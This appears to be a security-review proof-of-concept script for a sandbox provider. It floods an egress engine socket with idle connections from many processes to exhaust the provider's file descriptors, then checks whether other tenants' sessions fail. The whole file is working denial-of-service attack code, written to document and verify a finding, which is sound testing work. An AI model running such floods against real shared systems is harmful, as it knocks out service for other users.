'use strict';
// R11-8: every connection a session's command opens to the engine socket
// (`/.cordon/egress/engine.sock`, bound into every sandbox with a network
// allowlist) is accepted and held by the provider — one provider descriptor
// each — even when it never sends a byte; neither `networkConcurrentStreams`
// (32) nor any other bound applies until it speaks. The same flood on the
// proxy port (control) holds 32. With P processes × 240 connections one
// session takes the provider to EMFILE, and then every session fails.
// Usage: node engine-socket-provider-fds.js [engine|proxy] [P=18]
// (R11_NOFILE=inherit keeps the provider's own limit — 20000 here — and
// R11_SESSIONS=5 runs the flood from 5 sessions of 5 tenants: a session's
// engine connections stop at its networkStreams, 4096)
// Runs itself again under RLIMIT_NOFILE 4096 (soft and hard), as root or
// as uid 65534 (via setpriv, from /tmp).
const { spawnSync } = require('node:child_process');
const fs = require('node:fs');
const http = require('node:http');

const mode = process.argv[2] || 'engine';
const P = Number(process.argv[3] || 18);
if (!process.env.R11_CHILD && process.env.R11_NOFILE !== 'inherit') {
  const r = spawnSync('prlimit', ['--nofile=4096:4096', process.execPath, __filename, mode, String(P)], { stdio: 'inherit', env: { ...process.env, R11_CHILD: '1' } });
  process.exit(r.status ?? 1);
}
const { withManager } = require('./h.js');
const fds = () => { try { return fs.readdirSync('/proc/self/fd').length; } catch (e) { return e.code; } };
const target = mode === 'engine' ? "socket.socket(socket.AF_UNIX); s.connect('/.cordon/egress/engine.sock')" : "socket.socket(); s.connect(('127.0.0.1', 3128))";
const py = `import socket, time
L = []
for i in range(240):
    try:
        s = ${target}; L.append(s)
    except Exception as e:
        break
print(len(L), flush=True)
time.sleep(15)`;

(async () => {
  const srv = http.createServer((q, r) => r.end('hello\n')).listen(0, '127.0.0.1');
  await new Promise((r) => srv.once('listening', r));
  const port = srv.address().port;
  try {
    await withManager({ network: { allow: [{ host: 'localhost', port, allowPrivateAddresses: true }] } }, async (sessions) => {
      const S = Number(process.env.R11_SESSIONS || 1); // attacker sessions, one tenant each
      const attackers = [];
      for (let i = 0; i < S; i++) attackers.push(await sessions.acquire({ tenant: `t${i}`, conversation: 'attacker' }, { tenant: `t${i}` }));
      const b = await sessions.acquire({ tenant: 'u', conversation: 'victim' }, { tenant: 'u' });
      const before = fds();
      const hs = [];
      for (const a of attackers) hs.push(await a.start({ shell: 'bash', script: `for i in $(seq ${P}); do python3 -c "$PY" & done; wait` }, { env: { PY: py } }));
      await new Promise((r) => setTimeout(r, 6000));
      const during = fds();
      const victim = {};
      for (const [op, fn] of [['exec', () => b.exec(['/bin/echo', 'ok'])], ['writeFile', () => b.writeFile('f', 'x')], ['readFile', () => b.readFile('f')],
        ['acquire', () => sessions.acquire({ tenant: 'v', conversation: 'new' }, { tenant: 'v' }).then((s) => s.end())]]) {
        try { await fn(); victim[op] = 'ok'; } catch (e) { victim[op] = e.code; }
      }
      const held = (await Promise.all(hs.map((h) => h.wait()))).flatMap((r) => r.stdout.trim().split(/\s+/).map(Number)).filter((n) => n > 0);
      const notice = (await attackers[0].exec(['/bin/true'])).notice;
      console.log(`uid ${process.getuid()}, ${mode}: ${S} session(s), ${held.length} processes opened ${held.reduce((x, y) => x + y, 0)} connections; provider descriptors ${before} → ${during} (limit ${require('node:fs').readFileSync('/proc/self/limits', 'utf8').match(/Max open files\s+(\d+)/)[1]}); other session meanwhile: ${JSON.stringify(victim)}; attacker's next exec notice: ${notice ? JSON.stringify(notice.slice(0, 60)) : 'none'}`);
      const broken = Object.values(victim).some((v) => v !== 'ok');
      const grew = during === 'EMFILE' || during - before > 1000;
      console.log(grew && broken ? 'FINDING: idle engine-socket connections exhaust the provider\'s descriptors; other sessions fail' : grew ? 'FINDING (partial): unbounded provider descriptors per session' : 'held');
    });
  } finally { srv.close(); }
})().catch((e) => { console.error(e); process.exitCode = 1; });
